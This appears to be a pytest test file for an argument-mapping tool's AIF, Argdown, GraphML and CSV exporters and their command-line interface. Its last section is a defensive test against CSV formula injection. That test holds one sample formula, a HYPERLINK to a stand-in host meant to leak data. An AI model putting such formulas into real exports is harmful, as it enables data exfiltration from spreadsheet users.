"""Exports opened in their real readers: json (AIF), networkx.read_graphml, csv; Argdown by structure."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
from collections import Counter

import networkx as nx
import pytest
import yaml

import entente_lab
from entente_lab import export as export_module
from entente_lab.analysis.graphs import actor_graph, argument_graph
from entente_lab.app.cli import main
from entente_lab.export import (
    CSV_COLUMNS,
    FORMATS,
    export_text,
    to_aif,
    to_argdown,
    to_csv,
    to_graphml,
    write_export,
)


def _distinct_quotes(case):
    quotes = list(case.thesis.quotes) + [q for c in case.claims for q in c.quotes]
    quotes += [q for f in case.factors for q in f.quotes]
    return {(q.turn, q.start, q.end): q for q in quotes}


def _with_one_attack(monkeypatch, factor_id="india-divergence"):
    """Make the exporters see a graph in which one factor attacks its claim instead of supporting it."""
    real = argument_graph

    def patched(case, weights=None):
        g = real(case, weights)
        (parent,) = [p for _, p, r in g.out_edges(f"factor:{factor_id}", data="relation") if r == "support"]
        g.edges[f"factor:{factor_id}", parent]["relation"] = "attack"
        return g

    monkeypatch.setattr(export_module, "argument_graph", patched)


# ---------------------------------------------------------------- AIF

def _aif(text):
    doc = json.loads(text)
    nodes = {n["nodeID"]: n for n in doc["nodes"]}
    out_edges, in_edges = {}, {}
    for e in doc["edges"]:
        out_edges.setdefault(e["fromID"], []).append(nodes[e["toID"]])
        in_edges.setdefault(e["toID"], []).append(nodes[e["fromID"]])
    return doc, nodes, out_edges, in_edges


def test_aif_has_the_expected_node_and_edge_counts_and_types(case):
    doc, nodes, _, _ = _aif(to_aif(case))
    quotes = _distinct_quotes(case)
    owners = [("thesis", case.thesis.quotes)] + [(c.id, c.quotes) for c in case.claims]
    owners += [(f.id, f.quotes) for f in case.factors]
    evidence_links = len({(owner, q.turn, q.start, q.end) for owner, qs in owners for q in qs})
    counts = Counter(n["type"] for n in doc["nodes"])
    assert counts == {"I": 1 + len(case.claims) + len(case.factors), "RA": len(case.claims) + len(case.factors),
                      "L": len(quotes), "YA": evidence_links, "TA": len(quotes) - 1}
    assert len(doc["edges"]) == 2 * (counts["RA"] + counts["YA"] + counts["TA"])
    assert len(nodes) == len(doc["nodes"])  # ids unique
    assert len({e["edgeID"] for e in doc["edges"]}) == len(doc["edges"])
    assert all(e["fromID"] in nodes and e["toID"] in nodes and e["formEdgeID"] is None for e in doc["edges"])
    assert {n["text"] for n in doc["nodes"] if n["type"] == "RA"} == {"Default Inference"}
    assert {n["text"] for n in doc["nodes"] if n["type"] == "YA"} == {"Asserting"}
    assert {n["text"] for n in doc["nodes"] if n["type"] == "TA"} == {"Default Transition"}
    assert {n["timestamp"] for n in doc["nodes"]} == {"2022-08-18 00:00:00"}


def test_every_ra_links_i_nodes_to_one_i_node_and_mirrors_the_argument_graph(case):
    doc, nodes, out_edges, in_edges = _aif(to_aif(case))
    g = argument_graph(case)
    links = set()
    for node in doc["nodes"]:
        if node["type"] in ("RA", "CA"):
            targets, sources = out_edges[node["nodeID"]], in_edges[node["nodeID"]]
            assert len(targets) == 1 and targets[0]["type"] == "I"
            assert sources and all(s["type"] == "I" for s in sources)
            links |= {(s["entente_id"], targets[0]["entente_id"]) for s in sources}
    assert links == {(u, v) for u, v, r in g.edges(data="relation") if r == "support"}


def test_every_l_node_asserts_i_nodes_through_ya_and_quotes_the_turn_verbatim(case):
    doc, nodes, out_edges, in_edges = _aif(to_aif(case))
    g = argument_graph(case)
    for node in (n for n in doc["nodes"] if n["type"] == "L"):
        speaker = case.person(node["speaker"])
        assert node["text"] == f"{speaker.name} : {node['quote']}"
        assert case.turn(node["turn"]).text[node["start"]:node["end"]] == node["quote"]
        asserting = [n for n in out_edges[node["nodeID"]] if n["type"] == "YA"]
        assert asserting
        asserted = set()
        for ya in asserting:
            assert [n["type"] for n in out_edges[ya["nodeID"]]] == ["I"]
            assert in_edges[ya["nodeID"]] == [node]
            asserted.add(out_edges[ya["nodeID"]][0]["entente_id"])
        assert asserted == set(g.successors(node["entente_id"]))
    for ya in (n for n in doc["nodes"] if n["type"] == "YA"):
        assert [n["type"] for n in in_edges[ya["nodeID"]]] == ["L"]


def test_ta_nodes_chain_the_locutions_in_text_order(case):
    doc, nodes, out_edges, in_edges = _aif(to_aif(case))
    order = {t.id: i for i, t in enumerate(case.turns)}
    locutions = [n for n in doc["nodes"] if n["type"] == "L"]
    assert locutions == sorted(locutions, key=lambda n: (order[n["turn"]], n["start"], n["end"]))
    chain = []
    for ta in (n for n in doc["nodes"] if n["type"] == "TA"):
        (before,), (after,) = in_edges[ta["nodeID"]], out_edges[ta["nodeID"]]
        assert before["type"] == after["type"] == "L"
        chain.append((before["nodeID"], after["nodeID"]))
    ids = [n["nodeID"] for n in locutions]
    assert chain == list(zip(ids, ids[1:], strict=False))


def test_locutions_tie_every_l_node_to_a_participant(case):
    doc, nodes, _, _ = _aif(to_aif(case))
    people = {p["participantID"]: p for p in doc["participants"]}
    assert people == {"1": {"participantID": "1", "firstname": "Ali", "surname": "Wyne"}}
    l_nodes = {n["nodeID"] for n in doc["nodes"] if n["type"] == "L"}
    assert {loc["nodeID"] for loc in doc["locutions"]} == l_nodes
    assert all(loc["personID"] in people for loc in doc["locutions"])


def test_aif_i_nodes_carry_the_weighting_and_the_interpretation_note(case):
    doc, *_ = _aif(to_aif(case, {"energy-concessions": 0.15}))
    node = next(n for n in doc["nodes"] if n.get("entente_id") == "factor:energy-concessions")
    assert (node["type"], node["text"], node["weight"], node["kind"]) == (
        "I", case.factor("energy-concessions").label, 0.15, "strength")
    assert "interpretation" in doc["entente_lab"]["interpretation"]
    assert doc["entente_lab"]["url"] == case.source.url


def test_an_attack_becomes_a_ca_node(case, monkeypatch):
    _with_one_attack(monkeypatch)
    doc, nodes, out_edges, in_edges = _aif(to_aif(case))
    (ca,) = [n for n in doc["nodes"] if n["type"] == "CA"]
    assert ca["text"] == "Default Conflict"
    assert [n["entente_id"] for n in in_edges[ca["nodeID"]]] == ["factor:india-divergence"]
    assert [n["entente_id"] for n in out_edges[ca["nodeID"]]] == ["claim:strained"]
    assert Counter(n["type"] for n in doc["nodes"])["RA"] == len(case.claims) + len(case.factors) - 1


# ---------------------------------------------------------------- Argdown

STATEMENT = re.compile(r"^(?P<indent>(?: {4})*)(?:(?P<sign>[+-]) )?\[(?P<title>[^\[\]]+)\]: "
                       r"(?P<text>.*?) #(?P<tag>[a-z-]+) (?P<data>\{.*\})$")
CONTROL = re.compile(r"[@#*_\[\]<>{}]|//|/\*|[.:]\S")


def _unescape(text):
    return re.sub(r"\\(.)", r"\1", text)


def _argdown_statements(text):
    """(depth, sign, title, text, tag, data) for every statement line; fails on any other non-comment line."""
    body = text.split("===\n", 2)[2]
    out = []
    for line in body.splitlines():
        if not line or line.startswith("//"):
            continue
        match = STATEMENT.match(line)
        assert match, f"not a statement line: {line!r}"
        escaped = match["text"]
        assert not CONTROL.search(re.sub(r"\\.", "", escaped)), f"unescaped control character in {escaped!r}"
        out.append((len(match["indent"]) // 4, match["sign"], match["title"], _unescape(escaped),
                    match["tag"], yaml.safe_load(match["data"])))
    return out


def test_argdown_front_matter_is_yaml_naming_the_source(case):
    text = to_argdown(case)
    assert text.startswith("===\n")
    front = yaml.safe_load(text.split("===\n")[1])
    assert front["title"].startswith(case.source.title) and front["date"] == case.source.published


def test_argdown_puts_every_factor_once_under_its_claim_with_a_plus(case):
    weights = {"energy-concessions": 0.35}
    statements = _argdown_statements(to_argdown(case, weights))
    assert statements[0][:3] == (0, None, case.thesis.label)
    assert statements[0][4] == "thesis" and statements[0][3] == case.thesis.summary
    claims = {c.id: c for c in case.claims}
    parent = None
    seen = Counter()
    for depth, sign, title, text, tag, data in statements[1:]:
        if depth == 1:
            claim = claims[data["id"]]
            assert (sign, title, tag, text) == ("+", claim.label, claim.kind, claim.summary)
            parent = claim
            continue
        assert depth == 2
        factor = case.factor(data["id"])
        seen[factor.id] += 1
        assert (sign, title, text, tag) == ("+", factor.label, factor.summary, factor.kind)
        assert factor.kind == parent.kind
        assert data["weight"] == weights.get(factor.id, factor.default_weight)
        assert (data["evidence"], data["duration_linked"]) == (factor.evidence, factor.duration_linked)
        assert data["quotes"] == [q.text for q in factor.quotes]
    assert seen == {f.id: 1 for f in case.factors}


def test_argdown_marks_an_attack_with_a_minus(case, monkeypatch):
    _with_one_attack(monkeypatch)
    signs = {data["id"]: sign for _, sign, _, _, _, data in _argdown_statements(to_argdown(case))}
    assert signs["india-divergence"] == "-"
    assert Counter(signs.values()) == {None: 1, "+": len(case.claims) + len(case.factors) - 1, "-": 1}


def test_argdown_escapes_control_characters_and_keeps_titles_unique(tmp_path, case_text):
    tricky_summary = r"Tricky #tag [ref] <arg> {data} @who *bold* _it_ a//b /*c*/ U.S. :smile: .~. back\\slash"
    replacements = {
        "    label: China can extract energy concessions\n": "    label: 'China [buys] energy: {cheap}'\n",
        "    summary: Given Russia's economic difficulties, China can extract concessions on its imports from Russia, "
        "particularly of energy.\n": f'    summary: "{tricky_summary}"\n',
        "    label: Talks on bypassing the U.S. dollar\n": "    label: Shared grievances\n",
    }
    text = case_text
    for old, new in replacements.items():
        assert text.count(old) == 1
        text = text.replace(old, new)
    path = tmp_path / "tricky.yaml"
    path.write_text(text, encoding="utf-8")
    tricky = entente_lab.load_case(path)

    statements = {data["id"]: (title, body) for _, _, title, body, _, data in _argdown_statements(to_argdown(tricky))}
    assert statements["energy-concessions"] == ("China (buys) energy: {cheap}", tricky.factor("energy-concessions").summary)
    assert tricky.factor("energy-concessions").summary == tricky_summary.replace("\\\\", "\\")
    assert statements["dollar-workaround"][0] == "Shared grievances (dollar-workaround)"
    assert statements["shared-grievances"][0] == "Shared grievances (shared-grievances)"


def test_argdown_data_strings_cannot_close_the_data_block():
    assert export_module._yaml_value("a } b { c") == '"a \\u007d b \\u007b c"'
    assert yaml.safe_load("{q: " + export_module._yaml_value('say "}" now') + "}") == {"q": 'say "}" now'}


# ---------------------------------------------------------------- GraphML

def _read_graphml(text, **options):
    return nx.read_graphml(io.BytesIO(text.encode("utf-8")), **options)


def test_argument_graphml_reads_back_with_nodes_edges_and_typed_attributes(case):
    original = argument_graph(case, {"energy-concessions": 0.35})
    g = _read_graphml(to_graphml(case, {"energy-concessions": 0.35}))
    assert isinstance(g, nx.DiGraph)
    assert (g.number_of_nodes(), g.number_of_edges()) == (original.number_of_nodes(), original.number_of_edges())
    assert set(g.nodes) == set(original.nodes) and set(g.edges) == set(original.edges)
    factor = g.nodes["factor:energy-concessions"]
    assert factor["weight"] == 0.35 and factor["duration_linked"] is False and factor["kind"] == "strength"
    assert json.loads(factor["actors"]) == list(case.factor("energy-concessions").actors)
    assert json.loads(factor["cites"]) == []
    quote = g.nodes["quote:answer:507-616"]
    assert (quote["start"], quote["end"]) == (507, 616)
    assert quote["text"] == case.turn("answer").text[507:616]
    for u, v, data in original.edges(data=True):
        assert g.edges[u, v]["relation"] == data["relation"]
    assert g.graph["case"] == case.id and g.graph["graph_kind"] == "argument"


def test_actor_graphml_reads_back_with_relation_ids_as_edge_keys(case):
    original = actor_graph(case)
    g = _read_graphml(to_graphml(case, graph="actors"), force_multigraph=True)
    assert isinstance(g, nx.MultiDiGraph)
    assert g.number_of_nodes() == original.number_of_nodes() == len(case.actors)
    assert sorted(g.edges(keys=True)) == sorted(original.edges(keys=True))
    for u, v, key, data in original.edges(keys=True, data=True):
        back = g.edges[u, v, key]
        assert back["type"] == data["type"] and back["weight"] == pytest.approx(data["weight"])
        assert tuple(json.loads(back["factors"])) == data["factors"]
        assert [tuple(q[k] for k in ("text", "speaker", "turn", "start", "end")) for q in json.loads(back["quotes"])] \
            == [(q.text, q.speaker, q.turn, q.start, q.end) for q in data["quotes"]]
    assert g.nodes["nato"] == {"node_type": "actor", "label": "NATO", "name": "NATO", "type": "alliance"}


def test_graphml_is_deterministic(case):
    assert to_graphml(case) == to_graphml(case)
    assert to_graphml(case, graph="actors") == to_graphml(case, graph="actors")


# ---------------------------------------------------------------- CSV

def test_csv_has_one_row_per_factor_quote_with_offsets_that_match_the_text(case):
    rows = list(csv.DictReader(io.StringIO(to_csv(case, {"policy-trilemma": 0.05}), newline="")))
    assert tuple(rows[0]) == CSV_COLUMNS
    expected = [(f.id, q) for f in case.factors for q in f.quotes]
    assert len(rows) == len(expected)
    for row, (factor_id, quote) in zip(rows, expected, strict=True):
        factor = case.factor(factor_id)
        assert (row["factor_id"], row["kind"], row["label"], row["evidence"]) == (
            factor.id, factor.kind, factor.label, factor.evidence)
        assert row["duration_linked"] == ("true" if factor.duration_linked else "false")
        start, end = int(row["start"]), int(row["end"])
        assert row["quote_text"] == quote.text == case.turn(row["turn"]).text[start:end]
        assert row["speaker"] == quote.speaker
        assert float(row["default_weight"]) == factor.default_weight
        assert float(row["weight"]) == (0.05 if factor.id == "policy-trilemma" else factor.default_weight)


# ---------------------------------------------------------------- dispatch and files

def test_export_text_dispatches_and_refuses_unknown_formats_and_graphs(case):
    assert export_text(case, "aif") == to_aif(case)
    assert export_text(case, "argdown") == to_argdown(case)
    assert export_text(case, "csv") == to_csv(case)
    assert export_text(case, "graphml", graph="actors") == to_graphml(case, graph="actors")
    with pytest.raises(ValueError, match="unknown export format 'xml'; choose one of: aif, argdown, graphml, csv"):
        export_text(case, "xml")
    with pytest.raises(ValueError, match="holds the argument map only; use format 'graphml'"):
        export_text(case, "csv", graph="actors")
    with pytest.raises(ValueError, match="unknown graph 'actor'"):
        export_text(case, "graphml", graph="actor")


def test_exports_never_change_the_weights_they_are_given(case):
    weights = {"energy-concessions": 0.35}
    for fmt in FORMATS:
        export_text(case, fmt, weights=weights)
    assert weights == {"energy-concessions": 0.35}


def test_write_export_refuses_to_overwrite_unless_asked(case, tmp_path):
    out = tmp_path / "map.aif.json"
    write_export(out, case, "aif")
    assert json.loads(out.read_text(encoding="utf-8")) == json.loads(to_aif(case))
    out.write_text("edited", encoding="utf-8")
    with pytest.raises(FileExistsError, match="map.aif.json already exists"):
        write_export(out, case, "aif")
    assert out.read_text(encoding="utf-8") == "edited"
    write_export(out, case, "csv", overwrite=True)
    assert out.read_bytes() == to_csv(case).encode("utf-8")


# ---------------------------------------------------------------- command line

@pytest.mark.parametrize("fmt", FORMATS)
def test_cli_prints_each_format_to_stdout(case, capsys, fmt):
    assert main(["export", "--format", fmt]) == 0
    out, err = capsys.readouterr()
    assert out == export_text(case, fmt) and err == ""


def test_cli_exports_the_actor_graph_as_graphml(case, capsys):
    assert main(["export", "--format", "graphml", "--graph", "actors"]) == 0
    assert capsys.readouterr().out == to_graphml(case, graph="actors")


def test_cli_writes_a_file_and_refuses_to_overwrite_it_without_force(case, tmp_path, capsys):
    out = tmp_path / "factors.csv"
    assert main(["export", "--format", "csv", "-o", str(out)]) == 0
    assert out.read_bytes() == to_csv(case).encode("utf-8")
    capsys.readouterr()

    out.write_text("student's edits", encoding="utf-8")
    assert main(["export", "--format", "csv", "-o", str(out)]) == 1
    stdout, err = capsys.readouterr()
    assert stdout == ""
    assert err.strip().count("\n") == 0 and "already exists; use --force" in err and str(out) in err
    assert out.read_text(encoding="utf-8") == "student's edits"

    assert main(["export", "--format", "csv", "-o", str(out), "--force", "--quiet"]) == 0
    assert out.read_bytes() == to_csv(case).encode("utf-8")
    assert capsys.readouterr() == ("", "")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["factors.csv"]


def test_cli_reports_a_bad_case_file_with_path_line_and_column(mutated_case, capsys):
    path, _ = mutated_case("  - id: russia-beholden\n    kind: strength\n", "  - id: russia-beholden\n    kind: strenght\n")
    assert main(["export", "--format", "aif", "--case", str(path)]) == 1
    out, err = capsys.readouterr()
    assert out == ""
    lines = err.strip().splitlines()
    assert lines and all(re.match(rf"{re.escape(str(path))}:\d+:\d+: ", line) for line in lines)
    assert "Traceback" not in err


def test_cli_reports_an_unwritable_destination_in_one_line(tmp_path, capsys):
    assert main(["export", "--format", "csv", "-o", str(tmp_path / "missing" / "x.csv")]) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "cannot write" in err


@pytest.mark.parametrize("argv", [
    ["export"],
    ["export", "--format", "json"],
    ["export", "--format", "csv", "--graph", "actors"],
    ["export", "--format", "aif", "--force"],
])
def test_cli_usage_errors_exit_2(argv, capsys):
    try:
        status = main(argv)
    except SystemExit as stop:
        status = stop.code
    assert status == 2
    assert "Traceback" not in capsys.readouterr().err


def test_cli_in_a_subprocess_writes_utf8_to_stdout(case):
    done = subprocess.run([sys.executable, "-m", "entente_lab.app.cli", "export", "--format", "argdown"],
                          capture_output=True, check=False)
    assert done.returncode == 0, done.stderr
    assert done.stdout.decode("utf-8") == to_argdown(case)


# ---------------------------------------------------------------- CSV formula neutralisation

FORMULA = '=HYPERLINK("http://x.example/?leak","Open")'


def test_csv_cells_that_a_spreadsheet_would_run_get_a_leading_quote_and_numbers_stay_numbers(mutated_case, capsys):
    path, _ = mutated_case("    label: China can extract energy concessions",
                           "    label: '" + FORMULA.replace("'", "''") + "'")
    assert main(["export", "--format", "csv", "--case", str(path)]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    row = next(r for r in rows if r["factor_id"] == "energy-concessions")
    assert row["label"] == "'" + FORMULA
    for r in rows:
        assert not r["label"].startswith(("=", "+", "-", "@"))
        for column in ("weight", "default_weight", "start", "end"):
            float(r[column])  # numeric columns are written as numbers, never quoted


def test_to_csv_and_the_class_csv_share_one_rule():
    from entente_lab import report
    from entente_lab.safe_output import csv_cell

    assert export_module.csv_cell is csv_cell and report.csv_cell is csv_cell
    assert [csv_cell(t) for t in ("=1+1", "+1", "-1+1", "@A1", "\t=1", "\r=1", "\uff1d1", "a=1", "")] == [
        "'=1+1", "'+1", "'-1+1", "'@A1", "'\t=1", "'\r=1", "'\uff1d1", "a=1", ""]


@pytest.mark.parametrize("name", ["second", "third"])
def test_the_exports_of_another_case_hold_no_bundled_word_and_name_its_interpreter(name):
    from .bundled_words import find_bundled_words
    from .conftest import OTHER_CASES

    other = entente_lab.load_case(OTHER_CASES[name])
    for fmt in FORMATS:
        for graph in (("argument", "actors") if fmt == "graphml" else ("argument",)):
            text = export_text(other, fmt, graph=graph)
            assert find_bundled_words(text) == [], (fmt, graph)
    argdown = to_argdown(other)
    assert f"// Titles, texts, tags, weights and evidence types are {other.interpretation};" in argdown
    written = yaml.safe_load(OTHER_CASES[name].read_text(encoding="utf-8"))["source"].get("interpreter", "the case author")
    assert json.loads(to_aif(other))["entente_lab"]["interpreter"] == other.interpreter == written
